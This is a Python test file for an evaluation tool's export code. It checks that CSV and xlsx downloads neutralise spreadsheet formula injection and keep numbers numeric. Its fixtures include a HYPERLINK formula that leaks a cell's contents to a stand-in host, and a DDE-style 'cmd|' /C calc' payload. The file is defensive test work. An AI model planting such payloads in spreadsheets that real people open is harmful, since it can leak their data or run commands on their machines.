"""Exports that cannot run code (issue 29, item 5): CSV and xlsx files for people neutralise cells that would
start a formula (OWASP: a single quote in front of text beginning with = + - @ tab CR), numbers stay numbers,
xlsx text cells are string cells, and a template filled in and imported back keeps its items."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from evalcore.cli import main
from evalcore.core.export import safe_cell, safe_csv, safe_xlsx
from evalcore.ingest.formats.items import import_items
from evalcore.ingest.formats.responses import import_responses
from evalcore.ingest.template import render, template
from support import ROOT, write_jsonl
from support.apptest import run

LEAK = '=HYPERLINK("http://x/?leak="&A1,"x")'


def _rows(data: bytes) -> list[list[str]]:
    """The CSV's cells exactly as a spreadsheet program receives them (the BOM checked and dropped)."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"), ("\tx", "'\tx"), ("\rx", "'\rx"), (LEAK, "'" + LEAK), ("-", "'-"),
    ("a=1", "a=1"), ("好 =1", "好 =1"), ("", ""), (" =1", " =1"),
    # numbers (and text that is only a number literal) are left as they are
    (-0.35, -0.35), (3, 3), ("-0.35", "-0.35"), ("+1", "+1"), ("-1e-3", "-1e-3"), ("-.5", "-.5"),
    ("-1-1", "'-1-1"), ("-0.35x", "'-0.35x"), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_csv_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame({"model": ["=1+2", "ok", "\tTAB", "\rCR", "@x"], "BLEU": [-0.35, 0.5, -1.0, 2.25, -0.0],
                          "n": [1, -2, 3, 4, 5]})
    assert _rows(safe_csv(frame)) == [
        ["model", "BLEU", "n"], ["'=1+2", "-0.35", "1"], ["ok", "0.5", "-2"], ["'\tTAB", "-1.0", "3"],
        ["'\rCR", "2.25", "4"], ["'@x", "-0.0", "5"]]
    # read back as numbers
    back = pd.read_csv(io.BytesIO(safe_csv(frame)), encoding="utf-8-sig")
    assert back["BLEU"].tolist() == [-0.35, 0.5, -1.0, 2.25, -0.0] and back["n"].tolist() == [1, -2, 3, 4, 5]
    # a column named by user text (a model as a column of a pivot) is neutralised too; the frame is not changed
    pivot = pd.DataFrame({"=evil": [1.5]})
    assert _rows(safe_csv(pivot)) == [["'=evil"], ["1.5"]]
    assert list(pivot.columns) == ["=evil"]


def test_safe_xlsx_writes_string_cells_never_formulas():
    frame = pd.DataFrame({"model": [LEAK, "-0.35", "ok", None], "v": [-0.35, 2.0, float("nan"), -1.0],
                          "k": [1, 2, 3, 4]})
    ws = openpyxl.load_workbook(io.BytesIO(safe_xlsx(frame, "s"))).active
    cells = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert cells == [
        [("model", "s"), ("v", "s"), ("k", "s")],
        [(LEAK, "s"), (-0.35, "n"), (1, "n")],
        [("-0.35", "s"), (2, "n"), (2, "n")],
        [("ok", "s"), (None, "n"), (3, "n")],
        [(None, "n"), (-1, "n"), (4, "n")]]
    assert ws["A2"].quotePrefix and not ws["A4"].quotePrefix


HOSTILE_ITEMS = [
    {"item_id": "h1", "dataset": "hx", "track": "hx/chat", "context": [LEAK, "+1+1"], "references": ["-cmd"]},
    {"item_id": "h2", "dataset": "hx", "track": "hx/chat", "context": ["\tTAB"], "references": ["\rCR"]},
    {"item_id": "h3", "dataset": "hx", "track": "hx/chat", "context": ["好"], "references": ["@SUM(A1)"]},
    {"item_id": "=h4", "dataset": "hx", "track": "hx/chat", "context": ["-0.35"], "references": ["ok"]},
]


@pytest.fixture
def hostile(con, tmp_path):
    import_items(con, write_jsonl(tmp_path / "items.jsonl", HOSTILE_ITEMS))
    return con


def _stored(con, model: str) -> list[tuple]:
    return con.execute("SELECT item_id, text FROM responses WHERE model = ? ORDER BY item_id", [model]).fetchall()


def test_template_csv_neutralises_context_and_reference_and_imports_back(hostile, tmp_path):
    data = render(template(hostile, "hx"), "csv")
    rows = _rows(data)
    assert rows[0] == ["track", "item_id", "context", "reference", "response"]
    assert sorted(rows[1:]) == sorted([
        ["hx/chat", "=h4", "-0.35", "ok", ""],             # keys as stored; a number-like text as it is
        ["hx/chat", "h1", "'" + LEAK + "\n+1+1", "'-cmd", ""],
        ["hx/chat", "h2", "'\tTAB", "'\rCR", ""],
        ["hx/chat", "h3", "好", "'@SUM(A1)", ""]])
    # filled in (as a spreadsheet program saves it: every cell as read) and imported back: the same items
    filled = [r[:4] + [{"h1": "一", "h2": "=二", "h3": "三", "=h4": "四"}[r[1]]] for r in rows[1:]]
    with open(tmp_path / "filled.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([rows[0], *filled])
    import_responses(hostile, tmp_path / "filled.csv", dataset="hx", model="m")
    assert _stored(hostile, "m") == [("=h4", "四"), ("h1", "一"), ("h2", "=二"), ("h3", "三")]
    # the items themselves are untouched
    contexts = dict(hostile.execute("SELECT item_id, context FROM items WHERE dataset = 'hx'").fetchall())
    assert json.loads(contexts["h1"]) == [LEAK, "+1+1"]


def test_template_jsonl_keeps_every_value(hostile):
    lines = [json.loads(x) for x in render(template(hostile, "hx"), "jsonl").decode().splitlines()]
    assert {r["item_id"]: (r["context"], r["reference"]) for r in lines} == {
        "h1": ([LEAK, "+1+1"], "-cmd"), "h2": (["\tTAB"], "\rCR"), "h3": (["好"], "@SUM(A1)"),
        "=h4": (["-0.35"], "ok")}


def test_template_xlsx_cli_has_no_formula_and_imports_back(tmp_path, capsys):
    from evalcore.store import connect

    db = tmp_path / "s.duckdb"
    con = connect(db)
    import_items(con, write_jsonl(tmp_path / "items.jsonl", HOSTILE_ITEMS))
    con.close()
    out = tmp_path / "t.xlsx"
    assert main(["template", "--db", str(db), "--dataset", "hx", "--format", "xlsx", "--out", str(out)]) == 0
    wb = openpyxl.load_workbook(out)
    ws = wb["responses"]
    cells = {(c.column_letter, c.row): c for row in ws.iter_rows() for c in row}
    assert [cells["A", 1].value, cells["B", 1].value, cells["C", 1].value, cells["D", 1].value,
            cells["E", 1].value] == ["track", "item_id", "context", "reference", "response"]
    by_id = {cells["B", r].value: r for r in range(2, ws.max_row + 1)}
    assert sorted(by_id) == ["=h4", "h1", "h2", "h3"]
    for item_id, context, reference in [("h1", LEAK + "\n+1+1", "-cmd"), ("h2", "\tTAB", "\rCR"),
                                        ("h3", "好", "@SUM(A1)"), ("=h4", "-0.35", "ok")]:
        r = by_id[item_id]
        assert (cells["C", r].value, cells["D", r].value) == (context, reference)
        for col in "ABCD":   # never a formula: string cells, text as stored
            assert cells[col, r].data_type == "s", (col, r, cells[col, r].value)
    assert cells["C", by_id["h1"]].quotePrefix and cells["B", by_id["=h4"]].quotePrefix
    # nothing in the file's XML is a formula
    import zipfile
    with zipfile.ZipFile(out) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    # filled in with a spreadsheet library (cells keep their types) and imported back through the CLI
    for item_id, r in by_id.items():
        ws.cell(row=r, column=5, value={"h1": "a", "h2": "b", "h3": "c", "=h4": "d"}[item_id])
    wb.save(tmp_path / "filled.xlsx")
    assert main(["import", "responses", str(tmp_path / "filled.xlsx"), "--db", str(db), "--dataset", "hx",
                 "--model", "x"]) == 0
    con = connect(db)
    try:
        assert _stored(con, "x") == [("=h4", "d"), ("h1", "a"), ("h2", "b"), ("h3", "c")]
    finally:
        con.close()


def test_template_csv_from_the_cli_is_neutralised(tmp_path, capsys):
    from evalcore.store import connect

    db = tmp_path / "s.duckdb"
    con = connect(db)
    import_items(con, write_jsonl(tmp_path / "items.jsonl", HOSTILE_ITEMS))
    con.close()
    capsys.readouterr()
    out = tmp_path / "t.csv"
    assert main(["template", "--db", str(db), "--dataset", "hx", "--format", "csv", "--out", str(out)]) == 0
    rows = {r[1]: r for r in _rows(out.read_bytes())[1:]}
    assert rows["h1"][2:4] == ["'" + LEAK + "\n+1+1", "'-cmd"]


def test_leaderboard_csv_download_neutralises_a_model_name(tmp_path, monkeypatch, capsys):
    """A model named =1+2 on the leaderboard page: the CSV its download button gives has '=1+2, and its
    numbers as numbers; the CLI's `--format csv` (for programs) keeps the name as it is."""
    import streamlit as st

    db = str(tmp_path / "s.duckdb")
    write_jsonl(tmp_path / "i.jsonl", [
        {"item_id": "t1", "dataset": "toy", "track": "toy/chitchat", "context": ["你好"], "references": ["今天天气不错"]},
        {"item_id": "t2", "dataset": "toy", "track": "toy/chitchat", "context": ["你好"], "references": ["我喜欢猫"]}])
    assert main(["import", "items", str(tmp_path / "i.jsonl"), "--db", db]) == 0
    (tmp_path / "r.csv").write_text("item_id,model,response\nt1,=1+2,今天天气不错\nt2,=1+2,我喜欢猫\n"
                                    "t1,b,今天\nt2,b,猫\n", encoding="utf-8")
    assert main(["import", "responses", str(tmp_path / "r.csv"), "--db", db, "--dataset", "toy",
                 "--track", "toy/chitchat"]) == 0
    assert main(["score", "--db", db, "--dataset", "toy"]) == 0
    got = {}
    real = st.download_button

    def capture(label, data, *args, **kwargs):
        got[label] = data() if callable(data) else data   # made on click (common.download)
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", capture)
    run("leaderboard", monkeypatch, {"EVALCORE_DB": db}, dataset="toy", track="toy/chitchat")
    rows = _rows(got["Download CSV"])
    header, body = rows[0], rows[1:]
    models = [r[header.index("model")] for r in body]
    assert sorted(models) == ["'=1+2", "b"]
    # the numbers are written as numbers (no quote), whatever their sign
    back = pd.read_csv(io.BytesIO(got["Download CSV"]), encoding="utf-8-sig")
    assert back["model"].tolist() == models
    numeric = [c for c in back.columns if pd.api.types.is_float_dtype(back[c])]
    assert "rank" in back.columns and numeric
    for c in numeric:
        assert all(not str(r[header.index(c)]).startswith("'") for r in body)
    capsys.readouterr()
    assert main(["leaderboard", "--db", db, "--dataset", "toy", "--track", "toy/chitchat", "--format", "csv"]) == 0
    cli = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r[cli[0].index("model")] for r in cli[1:]) == ["=1+2", "b"]


def test_no_page_writes_a_csv_or_xlsx_itself():
    """Every download a page offers goes through evalcore.core.export (common.download, safe_csv) or the template
    (render): no page turns a frame into CSV or xlsx bytes on its own."""
    pages = sorted((ROOT / "pages").rglob("*.py")) + [ROOT / "app.py"]
    assert len(pages) > 5
    for path in pages:
        text = path.read_text(encoding="utf-8")
        for call in (".to_csv(", ".to_excel(", "csv.writer(", "openpyxl"):
            assert call not in text, f"{path.relative_to(ROOT)} writes {call} itself"


def test_safe_csv_with_a_column_name_twice_and_string_dtypes():
    frame = pd.DataFrame([["=a", "@b", 1.5]], columns=["x", "x", "v"]).astype({"v": float})
    frame["s"] = pd.Series(["+c"], dtype="string")
    assert _rows(safe_csv(frame)) == [["x", "x", "v", "s"], ["'=a", "'@b", "1.5", "'+c"]]
